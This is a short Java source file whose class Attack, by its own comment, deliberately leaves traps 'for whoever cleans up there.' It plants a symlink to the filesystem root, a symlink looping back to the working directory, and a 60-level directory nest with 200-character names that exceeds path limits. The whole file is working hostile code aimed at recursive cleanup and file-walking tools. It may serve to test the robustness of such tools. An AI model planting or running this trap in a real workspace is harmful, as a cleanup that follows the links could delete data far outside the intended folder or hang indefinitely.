package asyncjava.ch2_2;

import java.nio.file.Files;
import java.nio.file.Path;

/** Leaves links and a folder too deep to be named where it works, for whoever cleans up there. */
final class Attack {
  static void run() throws Exception {
    Path here = Path.of("").toAbsolutePath();
    Files.createSymbolicLink(here.resolve("out"), here.getRoot());
    Files.createSymbolicLink(here.resolve("round"), here);
    Path deep = here;
    for (int i = 0; i < 60; i++) {
      Path next = Files.createDirectory(here.resolve("next"));
      if (i > 0) {
        Files.move(here.resolve("deep"), next.resolve("d".repeat(200)));
      }
      Files.writeString(next.resolve("file"), "");
      Files.move(next, here.resolve("deep"));
    }
  }
}
